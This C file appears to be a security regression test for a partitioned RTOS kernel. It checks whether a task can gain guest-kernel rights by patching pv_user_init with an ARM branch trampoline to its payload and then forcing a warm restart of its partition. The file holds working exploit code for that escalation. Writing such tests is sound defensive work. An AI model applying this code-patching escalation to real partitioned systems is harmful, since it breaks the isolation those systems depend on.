/*
 * rtwarm - attacker: a task takes guest-kernel rights through a warm
 * restart of its own partition.
 *
 * The guest kernel calls two functions of the user range in guest-kernel
 * mode at every start: pv_user_init() (newlib set-up) and main() (the
 * application's initialisation); the build allows exactly these (and the
 * APEX's entry and stack pool) because at a cold start the user range has
 * just been loaded from its pristine image. A warm restart reloads only
 * the guest-kernel range and keeps the user range, which every task may
 * write, code included (partitions/part.c, pk_part_load_step). So the task
 * overwrites the first two words of pv_user_init with "ldr pc, [pc, #-4]"
 * and the address of its payload, asks for NORMAL and then WARM_START
 * with PK_SVC_SET_MODE (a call tasks may make), and the fresh guest
 * kernel's pv_boot() runs the payload in guest-kernel mode. The payload
 * proves its rights by reading a guest-kernel word (gk_secret, OS_KOBJ,
 * initialised in the image so that the reload restores it) and by making
 * a guest-kernel-only service call (TIMER_SET, refused in task mode).
 *
 * Built with RTWARM_FAULT (rt-warmfault) the warm restart is the health
 * monitor's instead: the task reads gk_secret itself, a data abort whose
 * action in the partition's HM table is warm_start; no PK_SVC_SET_MODE.
 *
 * The run ends with
 *   RESULT rt-warmstart FAIL payload ran in guest-kernel mode ... (status 1)
 * when the escalation worked, "RESULT rt-warmstart PASS" (status 0) when
 * the task finds itself restarted and nothing ran (the kernel reloaded
 * the user range, or refused the restart).
 */
#include <stdint.h>
#include <stdio.h>

#include "os.h"
#include "pv_svc.h"

#ifdef RTWARM_FAULT
#define RT_NAME "rt-warmfault"
#else
#define RT_NAME "rt-warmstart"
#endif

#define GK_SECRET 0xC0DE6C5Eu

void pv_user_init(void);       /* rtos/port/pv/user/syscalls.c */

static OS_KOBJ volatile uint32_t gk_secret = GK_SECRET;
static OS_KOBJ struct os_task task;
static _Alignas(8) port_stack_t stack[512];

/* A console line without the library: text and hex words. */
static void put_hex(char *b, uint32_t *n, uint32_t v)
{
    static const char hex[] = "0123456789abcdef";
    b[(*n)++] = '0';
    b[(*n)++] = 'x';
    for (int s = 28; s >= 0; s -= 4)
        b[(*n)++] = hex[(v >> s) & 15u];
}

static void put_s(char *b, uint32_t *n, const char *s)
{
    while (*s != '\0')
        b[(*n)++] = *s++;
}

/* Entered instead of pv_user_init, from pv_boot in guest-kernel mode. */
void rtwarm_payload(void);
void rtwarm_payload(void)
{
    uint32_t secret = gk_secret;
    int32_t t = pv_svc(PK_SVC_TIMER_SET, 0xFFFFFFFFu, 0xFFFFFFFFu, 0u);
    char b[160];
    uint32_t n = 0;
    put_s(b, &n, secret == GK_SECRET && t == 0
                     ? "RESULT " RT_NAME " FAIL guest-kernel mode after "
                       "warm restart: gk_secret="
                     : "rtwarm: no rights: gk_secret=");
    put_hex(b, &n, secret);
    put_s(b, &n, " timer_set=");
    put_hex(b, &n, (uint32_t)t);
    b[n++] = '\n';
    if (!(secret == GK_SECRET && t == 0))
        put_s(b, &n, "RESULT " RT_NAME " PASS\n");
    (void)pv_console_write(b, n);
    pv_test_exit(secret == GK_SECRET && t == 0 ? 1 : 0);
    for (;;)
        ;
}

static void run(void *arg)
{
    (void)arg;
    _Alignas(8) struct pk_mode_status ms;
    int32_t r = pv_svc(PK_SVC_MODE_STATUS, (uint32_t)PK_SELF,
                       (uint32_t)(uintptr_t)&ms, 0u);
    printf("rtwarm: mode_status=%ld mode=%lu restarts=%lu warm=%lu\n",
           (long)r, (unsigned long)ms.mode, (unsigned long)ms.restarts,
           (unsigned long)ms.warm_restarts);
    if (r == 0 && ms.restarts != 0u) {
        printf("rtwarm: restarted, the task runs in task mode and the "
               "payload never ran\n");
        printf("RESULT " RT_NAME " PASS\n");
        pv_test_exit(0);
    }
    /* Control: the task itself may not make a guest-kernel call. */
    r = pv_svc(PK_SVC_TIMER_SET, 0xFFFFFFFFu, 0xFFFFFFFFu, 0u);
    printf("rtwarm: TIMER_SET from the task gives %ld\n", (long)r);

    volatile uint32_t *m = (volatile uint32_t *)(uintptr_t)&pv_user_init;
    os_critical_enter();
    m[1] = (uint32_t)(uintptr_t)rtwarm_payload;
    m[0] = 0xE51FF004u; /* ldr pc, [pc, #-4] */
    os_critical_exit();
    printf("rtwarm: pv_user_init at %p patched, warm restart\n",
           (void *)(uintptr_t)m);

#ifdef RTWARM_FAULT
    printf("rtwarm: data abort, warm restart by the health monitor\n");
    r = (int32_t)gk_secret;
    printf("rtwarm: the task read gk_secret=0x%08lx and goes on\n",
           (unsigned long)(uint32_t)r);
    printf("rtwarm: no warm restart\nRESULT " RT_NAME " PASS\n");
    pv_test_exit(0);
#endif
    r = pv_svc(PK_SVC_SET_MODE, (uint32_t)PK_SELF, PK_MODE_NORMAL, 0u);
    printf("rtwarm: SET_MODE normal=%ld\n", (long)r);
    r = pv_svc(PK_SVC_SET_MODE, (uint32_t)PK_SELF, PK_MODE_WARM_START, 0u);
    printf("rtwarm: SET_MODE warm_start returned %ld\n", (long)r);
    printf("rtwarm: warm restart refused\nRESULT " RT_NAME " PASS\n");
    pv_test_exit(0);
}

int main(void)
{
    os_init();
    os_task_create(&task, "rtwarm", run, NULL, 2, stack, 512u);
    os_start();
}
